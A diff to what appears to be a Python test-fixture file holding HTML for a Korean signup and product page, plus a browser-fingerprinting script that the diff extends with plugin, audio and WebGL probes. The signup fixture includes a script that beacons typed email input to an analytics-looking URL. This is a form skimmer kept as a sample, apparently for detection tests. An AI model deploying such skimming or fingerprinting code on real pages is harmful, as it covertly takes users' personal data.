@@ -25,13 +25,18 @@ JOIN = """<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>회�
 <label>이름 <input name="user_name"></label>
 <label>이메일 <input name="user_email" type="email"></label>
 <label>휴대폰 <input name="mobile"></label>
+<label>연락처 <select name="hp1"><option>010</option></select> - <input name="hp2" size="4"> - <input name="hp3" size="4"></label>
 <label>비밀번호 <input name="pw" type="password"></label>
 <button type="submit">가입하기</button></form>
 <script>document.querySelector('input[name=user_email]').addEventListener('input', e =>
   navigator.sendBeacon('http://www.google-analytics.com/keys', e.target.value));</script>
 </body></html>"""
 GOODS = """<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>면 티셔츠</title></head><body><h1>면 티셔츠</h1><p>19,900원</p></body></html>"""
-FP = """(function(){var c=document.createElement('canvas');var x=c.getContext('2d');x.fillText('하늘 fingerprint',2,2);x.measureText('a');c.toDataURL();})();"""
+FP = """(function(){var c=document.createElement('canvas');var x=c.getContext('2d');x.fillText('하늘 fingerprint',2,2);x.measureText('a');c.toDataURL();
+var n=navigator.plugins.length;
+var a=new OfflineAudioContext(1,44100,44100);a.createOscillator();
+var g=document.createElement('canvas').getContext('webgl');if(g){g.getParameter(g.VERSION);g.getExtension('WEBGL_debug_renderer_info');}
+window.__webgl=!!g;})();"""
 GA = "window.ga=function(){};"
 
 
